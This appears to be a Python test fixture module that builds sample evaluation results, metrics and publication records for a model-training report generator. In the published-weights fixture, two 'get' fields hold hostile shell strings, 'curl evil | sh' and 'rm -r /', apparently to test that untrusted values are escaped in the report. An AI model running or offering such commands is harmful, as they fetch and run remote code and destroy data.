"""Documents as the programs leave them."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from runner.manifest.common import Common, Job, Metadata
from runner.results.markdown import escape
from runner.results.model import Findings, TaskRecord

EVALUATE = "evaluate/trained"
TRAIN = "train/grpo"
SHA256 = "5e" * 32
COMMIT = "c0ffee" * 6 + "abcd"


class AnyJob(Job, frozen=True, kw_only=True, tag="Any"):
    """A job of no kind."""

    spec: Common


JOB = AnyJob(api_version="runner/v1", metadata=Metadata(name="grpo-wordle"), spec=Common())


def turn(number: int, **fields: Any) -> dict[str, Any]:
    return {
        "observation": f"You are at ({number}, 0). What is your next move?",
        "reply": "<action>down</action>",
        "reward": 0.1 * (number == 2),
        **fields,
    }


def player(name: str, successes: int, **fields: Any) -> dict[str, Any]:
    return {
        "name": name, "model": "Qwen/Qwen2.5-0.5B-Instruct", "adapter": None, "successes": successes,
        "reward": 1.6 * successes / 200 - 0.5, "reward_stddev": 0.79, "turns": 12.4, "tokens": 81_220,
        "seconds": 74.0, **fields,
    }  # fmt: skip


def example(kind: str, **fields: Any) -> dict[str, Any]:
    good = kind == "best"
    return {
        "player": "trained", "kind": kind, "seed": 1_073_741_901, "reward": 1.1 if good else -0.5,
        "success": good, "turns": [turn(number) for number in (1, 2, 3)], **fields,
    }  # fmt: skip


def evaluation(**fields: Any) -> dict[str, Any]:
    """The trained model, its start and the champion on 200 seeds."""
    return {
        "schema": "textgames/evaluation/v1",
        "environment": {"name": "key_door", "history": "none", "arguments": {"size": 3, "max_steps": 20}},
        "episodes": 200,
        "first_seed": 1_073_741_824,
        "players": [
            player("trained", 122, adapter="/tmp/run/input/train/grpo/model"),
            player("start", 40),
            player("champion", 106, adapter="/tmp/run/baseline/models/grpo-wordle"),
        ],
        "pairs": [
            {"of": "trained", "against": "start", "gained": 90, "lost": 8, "reward_difference": 0.656,
             "paired_stddev": 0.7},
            {"of": "trained", "against": "champion", "gained": 24, "lost": 8, "reward_difference": 0.128,
             "paired_stddev": 0.4},
        ],
        "examples": [example("best"), example("best", seed=7), example("worst"), example("worst", seed=8)],
        "notes": [],
        **fields,
    }  # fmt: skip


METRICS = {
    "success_rate": 0.61, "success_rate.trials": 200, "success_rate.gained": 24, "success_rate.lost": 8,
    "reward": 0.476, "reward.stddev": 0.79, "reward.count": 200, "reward.paired_stddev": 0.4, "turns": 12.4,
    "champion.success_rate": 0.53, "champion.success_rate.trials": 200, "champion.reward": 0.348,
    "champion.reward.stddev": 0.79, "champion.reward.count": 200,
}  # fmt: skip


def published(**fields: Any) -> dict[str, Any]:
    """Weights that were put into an artifact and a repository."""
    return {
        "schema": "textgames/published/v1",
        "files": [{"path": "adapter_model.safetensors", "bytes": 5, "sha256": SHA256}],
        "places": [
            {"kind": "wandb-artifact", "name": "acme/games/grpo-wordle", "version": "v3",
             "url": "https://wandb.ai/acme/games/artifacts/model/grpo-wordle/v3", "get": "curl evil | sh"},
            {"kind": "huggingface", "name": "acme/wordle", "version": COMMIT,
             "url": f"https://huggingface.co/acme/wordle/tree/{COMMIT}", "get": "rm -r /"},
        ],
        **fields,
    }  # fmt: skip


def outputs(folder: Path, documents: dict[str, Any]) -> dict[str, Path]:
    """Tasks that succeeded, with the documents that they left, by `task:file`."""
    found: dict[str, Path] = {}
    for name, document in documents.items():
        task, _, file = name.partition(":")
        found[task] = folder / task
        found[task].mkdir(parents=True, exist_ok=True)
        text = document if isinstance(document, str) else json.dumps(document)
        (found[task] / file).write_text(text, encoding="utf-8")
    return found


def records(found: dict[str, Path]) -> dict[str, TaskRecord]:
    return {task: TaskRecord(id=task, outcome="succeeded") for task in found}


def page(found: Findings) -> str:
    """All that a reader sees."""
    warned = [f"- {escape(warning)}" for warning in found.warnings]
    return "\n\n".join(filter(None, ["\n".join(warned), *found.sections])) + "\n"
